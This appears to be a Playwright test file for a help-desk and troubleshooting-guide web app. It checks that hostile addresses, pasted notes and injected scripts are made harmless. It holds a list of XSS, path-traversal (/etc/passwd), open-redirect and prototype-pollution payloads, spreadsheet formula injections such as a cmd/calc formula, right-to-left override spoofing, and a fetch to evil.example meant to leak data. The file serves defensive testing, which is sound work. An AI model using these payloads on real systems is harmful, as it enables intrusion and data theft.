import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test as bare, type Page } from '@playwright/test';
import { serveBuild } from '../../scripts/site/serve.ts';
import { expectNoBarriers } from '../browser/axe.ts';
import { dist } from '../browser/dist.ts';
import { choose, expect, faultyTest, takenOver, test } from '../browser/page.ts';

const hostile = [
  '//evil.example',
  '//evil.example/guides/activation-code-expired',
  '/\\evil.example',
  '/guides//evil.example/%2F%2Fevil.example',
  '/guides/activation-code-expired/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/guides/activation-code-expired/javascript:alert(1)',
  '/javascript:alert(1)//',
  '/guides/__proto__/constructor/prototype',
  '/guides/activation-code-expired/yes~%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/guides/activation-code-expired/%00',
  '/guides/%F0%9F%98%80%E2%80%AE',
  '/codes/onespan/__proto__',
  '/codes/javascript:alert(1)',
  '/codes/%E0%A4%A',
  '/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '/?q=%E0%A4%A',
  '/open?c=https://evil.example/guides/activation-code-expired/yes',
  '/open?c=%3Cscript%3Ealert(1)%3C/script%3E',
  '/desk/__proto__',
  '/train/..%2f..%2f',
  '/%',
  '/%%%',
  '/guides/activation-code-expired?was=__proto__/constructor&r=%00',
];

test('promise 12: a hostile address gets a friendly page, leads nowhere else and breaks nothing', async ({
  page,
  baseURL,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  for (const address of hostile) {
    await page.goto(baseURL + address);
    await expect(page.getByRole('heading', { level: 1 }).first(), address).toBeVisible();
    await expect(page.locator('[data-kind="recovery"]'), address).toHaveCount(0);
    expect(new URL(page.url()).origin, address).toBe(baseURL);
    expect(await page.locator('img[onerror], script:not([src])').count(), address).toBe(0);
    const links = await page
      .locator('a[href]')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
    for (const href of links) expect(href, address).toMatch(/^(https?|mailto|tel):/);
    expect(dialogs, address).toEqual([]);
  }
});

const long = `/guides/activation-code-expired/${'yes/'.repeat(10_000)}`;

test('promise 12: 10,000 segments typed into the page break nothing', async ({ page, baseURL }) => {
  await page.goto('/guides/activation-code-expired');
  const started = Date.now();
  await page.evaluate((address) => {
    window.history.pushState(null, '', address);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, long);
  await expect(page.locator('[data-kind="misfit"]')).toBeVisible();
  expect(Date.now() - started).toBeLessThan(20_000);
  await choose(page, 'go-on');
  await expect(page.locator('[data-node]')).toBeVisible();
  expect(new URL(page.url()).origin).toBe(baseURL);
});

test('promise 12: 10,000 segments asked of the server are refused with a status, and it goes on', async ({
  request,
}) => {
  // Node reads no more than 16 KiB of a request's head; other servers have limits of their own.
  for (const address of [
    long,
    `/${'a/'.repeat(10_000)}`,
    `/codes/${'%2e%2e%2f/'.repeat(10_000)}`,
  ]) {
    const answer = await request.get(address, { maxRedirects: 0 });
    expect(answer.status()).toBe(431);
    expect(answer.headers()).not.toHaveProperty('location');
    expect((await request.get('/guides/activation-code-expired')).status()).toBe(200);
  }
});

faultyTest.describe('from a server that reads long addresses', () => {
  let server: Server;
  let origin: string;
  faultyTest.beforeAll(async () => {
    server = createServer({ maxHeaderSize: 1 << 20 }, serveBuild(dist));
    await new Promise<void>((ready) => server.listen(0, 'localhost', ready));
    origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  });
  faultyTest.afterAll(() => server.close());

  for (const [what, address, kind] of [
    ['of a guide', long, 'misfit'],
    ['of nothing', `/${'a/'.repeat(10_000)}`, 'not-found'],
    ['of a desk that has no such call', `/desk/${'yes/'.repeat(10_000)}`, undefined],
    ['of code pages', `/codes/onespan/${'%2e%2e%2f/'.repeat(10_000)}`, 'not-found'],
    ['of slashes alone', '/'.repeat(10_000), undefined],
  ] as const) {
    faultyTest(
      `promise 12: a navigation to 10,000 segments ${what} gets a friendly page, and leads nowhere else`,
      async ({ page }) => {
        const response = await page.goto(origin + address);
        expect(response?.request().redirectedFrom()).toBeNull();
        expect([200, 404]).toContain(response?.status());
        await takenOver(page);
        if (kind) await expect(page.locator(`[data-kind="${kind}"]`)).toBeVisible();
        await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
        await expect(page.locator('[data-kind="recovery"]')).toHaveCount(0);
        expect(new URL(page.url()).origin).toBe(origin);
        // The page answers: its own way on is taken.
        await page.locator('header a[href], main a[href]').first().click();
        await expect(page).not.toHaveURL(origin + address);
        await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
        expect(new URL(page.url()).origin).toBe(origin);
      },
    );
  }
});

/** Breaks a flow's step in the browser: its file arrives with a step that no view knows. */
faultyTest(
  'promise 13: a step that throws gives a recovery screen, with the address, and the summary where it can be made',
  async ({ page, baseURL }) => {
    const folder =
      readdirSync(join(dist, 'assets')).find((name) => name.startsWith('flows-')) ?? '';
    await page.route(`**/assets/${folder}/activation-code-expired.js`, async (route) => {
      const answer = await route.fetch();
      const text = await answer.text();
      // What a step's view shows turns into something that it cannot show.
      const broken = text.replace(/"why":"(?:[^"\\]|\\.)*"/g, '"why":5,"shows":5');
      expect(broken).not.toBe(text);
      await route.fulfill({ response: answer, body: broken });
    });
    await page.goto('/');
    await page
      .getByRole('link', { name: 'The app says my activation code has expired' })
      .first()
      .click();
    const recovery = page.locator('[data-kind="recovery"]');
    for (let i = 0; i < 6 && (await recovery.count()) === 0; i += 1) {
      await page.waitForTimeout(700);
      const next = page.locator('.signs [data-answer]').first();
      if ((await next.count()) > 0) await next.click();
    }
    await expect(recovery.getByRole('heading', { level: 1 })).toHaveText(
      'This page could not be shown',
    );
    await expect(recovery.getByRole('textbox').first()).toHaveValue(page.url());
    expect(page.url()).toContain(`${baseURL}/guides/activation-code-expired`);
    await expect(recovery.locator('[data-summary="text"]')).toContainText(
      'activation-code-expired',
    );
    await expectNoBarriers(page, 'the recovery screen of a guide');
    // From here every other guide is one click away.
    await recovery.getByRole('link', { name: 'See all guides' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText('Locked out?');
  },
);

faultyTest(
  'promise 13: at the desk a step that throws leaves the summary of its call to be copied and saved',
  async ({ page }) => {
    await page.route('**/assets/flows-*/staff/activation-code-expired.js', async (route) => {
      const answer = await route.fetch();
      const text = await answer.text();
      // What the caller may say turns into something that the desk cannot list.
      const broken = text.replace(/"listenFor":\s*\[/g, '"listenFor":5,"unused":[');
      expect(broken).not.toBe(text);
      await route.fulfill({ response: answer, body: broken });
    });
    await page.goto('/desk');
    await expect(page.locator('.deskbar')).toBeVisible();
    await page.keyboard.press('n');
    await expect(page.locator('.pick-find input')).toBeFocused();
    await page.keyboard.type('expired');
    await page.keyboard.press('Enter');
    const recovery = page.locator('[data-kind="recovery"]');
    const summary = recovery.locator('[data-summary="text"]');
    await expect(summary).toContainText('/guides/activation-code-expired');
    await expect(recovery).not.toContainText('/desk/');
    await expectNoBarriers(page, 'the recovery screen of the desk');
    const saving = page.waitForEvent('download');
    await recovery.getByRole('button', { name: 'Save the text' }).click();
    expect(readFileSync(await (await saving).path(), 'utf8')).toBe(await summary.textContent());
    await page.getByRole('link', { name: 'Calls' }).first().click();
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(
      'This page could not be shown',
    );
  },
);

test('promise 16: hostile text in an address stays text in every export and on screen', async ({
  page,
}) => {
  const texts = [
    '=cmd|calc',
    '<img src=x onerror=alert(1)>',
    '[code](javascript:alert(1))',
    '\u202Etxt',
  ];
  for (const text of texts) {
    await page.goto(
      `/guides/activation-code-expired/something-else~${encodeURIComponent(text)}/hand-over`,
    );
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
  }
});

/** Texts that would do something where they were taken for more than texts. */
const harmful = [
  "=cmd|' /C calc'!A0",
  '<img src=x onerror="window.evil=true">',
  '<script>window.evil=true</script>',
  '[code]onerror[/code] [url=javascript:window.evil=true]here[/url]',
  '[read this](javascript:window.evil=true) ![x](https://evil.example/x.png)',
  '\u202Egpj.exe\u202C \u200Fright to left\u2066 and on',
];

test('promise 16: hostile notes, one of 1 MB among them, stay text on screen and in every export of the desk', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/desk');
  await expect(page.getByText('Reading the calls')).toHaveCount(0);
  await page.keyboard.press('n');
  await page.locator('.pick-find input').fill('expired');
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-node="sameMessage"]')).toBeVisible();
  const field = page.locator('.note-field');
  const notes = page.locator('.notes li');
  for (const [i, text] of harmful.entries()) {
    await field.focus();
    await page.keyboard.insertText(text);
    await page.keyboard.press('Enter');
    await expect(notes).toHaveCount(i + 1);
    await expect(notes.first()).toContainText(text);
  }
  // As much as a whole log, from the clipboard: the rest of it is cut off, and the page answers.
  const log = '<img src=x onerror="window.evil=true"> =1+1 [a](javascript:b) '.repeat(17_000);
  expect(log.length).toBeGreaterThan(1 << 20);
  await page.evaluate((text) => navigator.clipboard.writeText(text), log);
  await field.focus();
  const pasted = Date.now();
  await page.keyboard.press('ControlOrMeta+v');
  await expect(field).toHaveValue(log);
  await field.press('Enter');
  await expect(notes).toHaveCount(harmful.length + 1);
  await expect(notes.first()).toContainText(log.slice(0, 10_000));
  await field.press('Escape');
  await page.keyboard.press('2');
  await expect(page.locator('[data-node="whichMessage"]')).toBeVisible();
  expect(Date.now() - pasted).toBeLessThan(15_000);

  await page.keyboard.press('w');
  await page.locator('summary', { hasText: 'As Markdown and JSON' }).click();
  // On screen it is text: nothing of it has become an element, and none of it has run.
  expect(await page.locator('main').locator('img, script, [onerror]').count()).toBe(0);
  expect(await page.locator('a[href^="javascript:"], a[href*="evil"]').count()).toBe(0);
  expect(await page.evaluate(() => 'evil' in window)).toBe(false);

  await page.keyboard.press('c');
  await expect(page.getByText('Copied. Paste it into the ticket.')).toBeVisible();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  const markdown = (await page.locator('[data-summary="markdown"]').textContent()) ?? '';
  const json = (await page.locator('[data-summary="json"]').textContent()) ?? '';
  for (const form of [copied, markdown, json]) {
    // No formula, no tag of a ticket system, no turned direction; the log is cut, and says so.
    expect(form).toContain("'=cmd");
    expect(form).toContain('(code)onerror(/code)');
    expect(form).toContain('‹U+202E›gpj.exe‹U+202C›');
    expect(form).not.toMatch(/[\u200f\u202a-\u202e\u2066-\u2069]|: =|\[\/?code\]/);
    expect(form).toMatch(/cut here: \d+ more characters/);
    expect(form.length).toBeLessThan(40_000);
  }
  // The one link is that of the visit itself.
  expect(markdown).not.toMatch(/(?<!\\)<(?!http:\/\/localhost)|(?<!\\)\]\(|:\/\/evil/);
  expect(json).not.toMatch(/[<>]/);

  const saving = page.waitForEvent('download');
  await page.keyboard.press('l');
  await page.getByRole('button', { name: 'Export all calls' }).click();
  const file = readFileSync(await (await saving).path(), 'utf8');
  // This file is read back by the desk alone: it has the notes as they are, each in a JSON text.
  const saved = file
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(saved).toHaveLength(1);
  expect(
    saved[0].case.notes.slice(0, harmful.length).map(({ text }: { text: string }) => text),
  ).toEqual(harmful);
  await page.reload();
  await expect(page.locator('.call-list li')).toHaveCount(1);
});

/** Hears each directive of the policy that is violated in a page. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('heard', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { heard: (directive: string) => void }).heard(event.effectiveDirective),
    );
  });
  return violations;
}

bare(
  'promise 18: a request to another origin, eval, a string as HTML or as a handler, or a foreign policy is refused',
  async ({ page }) => {
    const violations = await violationsOf(page);
    await page.goto('/guides/activation-code-expired');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(violations).toEqual([]);
    const tried = await page.evaluate(async () => {
      // What Playwright evaluates may use eval itself; what a timer calls is a script of the page.
      await new Promise((done) => setTimeout(done));
      const evil = 'window.evil = true';
      const attempt = async (what: () => unknown) => {
        try {
          await what();
          return 'done';
        } catch {
          return 'refused';
        }
      };
      const trusted = (
        window as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => void };
        }
      ).trustedTypes;
      const results = {
        fetch: await attempt(() => fetch('https://evil.example/?leak')),
        // biome-ignore lint/security/noGlobalEval: it is what has to be refused
        eval: await attempt(() => globalThis.eval(evil)),
        function: await attempt(() => new Function(evil)()),
        timer: await attempt(() => (window.setTimeout as (code: string) => void)(evil)),
        html: await attempt(() => {
          document.createElement('div').innerHTML = '<b>x</b>';
        }),
        handler: await attempt(() => {
          const button = document.createElement('button');
          button.setAttribute('onclick', evil);
          document.body.append(button);
          button.click();
          button.remove();
          if (!('evil' in window)) throw new Error('it did not run');
        }),
        link: await attempt(() => {
          const link = document.createElement('a');
          link.href = `javascript:${evil}`;
          document.body.append(link);
          link.click();
          link.remove();
          return new Promise((_, no) => setTimeout(no, 100));
        }),
        policy: await attempt(() => trusted.createPolicy('mine', {})),
        script: await attempt(() => {
          const script = document.createElement('script');
          script.textContent = evil;
          document.head.append(script);
          if (!('evil' in window)) throw new Error('it did not run');
        }),
        worker: await attempt(() => new Worker('/sw.js')),
      };
      return { ...results, hasRun: 'evil' in window };
    });
    expect(tried).toEqual({
      fetch: 'refused',
      eval: 'refused',
      function: 'refused',
      timer: 'refused',
      html: 'refused',
      handler: 'refused',
      link: 'refused',
      policy: 'refused',
      script: 'refused',
      worker: 'refused',
      hasRun: false,
    });
    await expect
      .poll(() => violations)
      .toEqual(
        expect.arrayContaining(['connect-src', 'require-trusted-types-for', 'trusted-types']),
      );
  },
);

bare(
  'promise 18: an inline script and an inline handler that stand in a page as it is served do not run',
  async ({ page }) => {
    const violations = await violationsOf(page);
    // As if somebody had got them into the file: the server's headers are what refuses them.
    await page.route('**/guides/activation-code-expired', async (route) => {
      const response = await route.fetch();
      const evil = `<script>window.evil = 1</script><img src="data:," alt="" onerror="window.evil = 2">`;
      const body = (await response.text()).replace('</body>', `${evil}</body>`);
      expect(body).toContain(evil);
      await route.fulfill({ response, body });
    });
    await page.goto('/guides/activation-code-expired');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect
      .poll(() => violations)
      .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
    expect(await page.evaluate(() => 'evil' in window)).toBe(false);
  },
);

test('promise 19: the bar “new-version” is free of barriers that axe finds, and hides nothing focused', async ({
  page,
}) => {
  // A worker that waits already: versions.spec.ts has it come about.
  await page.addInitScript(() => {
    const waiting = Object.assign(new EventTarget(), { state: 'installed', postMessage() {} });
    const registration = Object.assign(new EventTarget(), {
      active: {},
      installing: null,
      waiting,
      update: () => Promise.resolve(),
    });
    navigator.serviceWorker.register = () => Promise.resolve(registration as never);
  });
  await page.goto('/');
  const bar = page.locator('[data-bar="new-version"]');
  await expect(bar).toBeVisible();
  await expectNoBarriers(page, 'new-version');
  await page.setViewportSize({ width: 320, height: 640 });
  for (const button of await bar.getByRole('button').all())
    expect((await button.boundingBox())?.height).toBeGreaterThanOrEqual(44);
  await page.evaluate(() => window.scrollTo(0, 0));
  const reached: string[] = [];
  // All of the page, until the browser's own controls have their turn.
  for (let tabs = 0; tabs < 60 && !reached.includes('Later'); tabs += 1) {
    await page.keyboard.press('Tab');
    const [name, isHidden] = await page.evaluate(() => {
      const focused = document.activeElement;
      if (focused === null || focused === document.body) return ['', false] as const;
      const { left, top, width, height } = focused.getBoundingClientRect();
      const seen = document.elementFromPoint(left + width / 2, top + height / 2);
      const isSeen = seen === null || focused.contains(seen) || seen.contains(focused);
      return [focused.textContent ?? '', !isSeen] as const;
    });
    expect(isHidden, `${name} is hidden while it has the focus`).toBe(false);
    reached.push(name);
  }
  expect(reached).toEqual(expect.arrayContaining(['Use it now', 'Later']));
  await bar.getByRole('button', { name: 'Later' }).press('Enter');
  await expect(bar).toHaveCount(0);
});
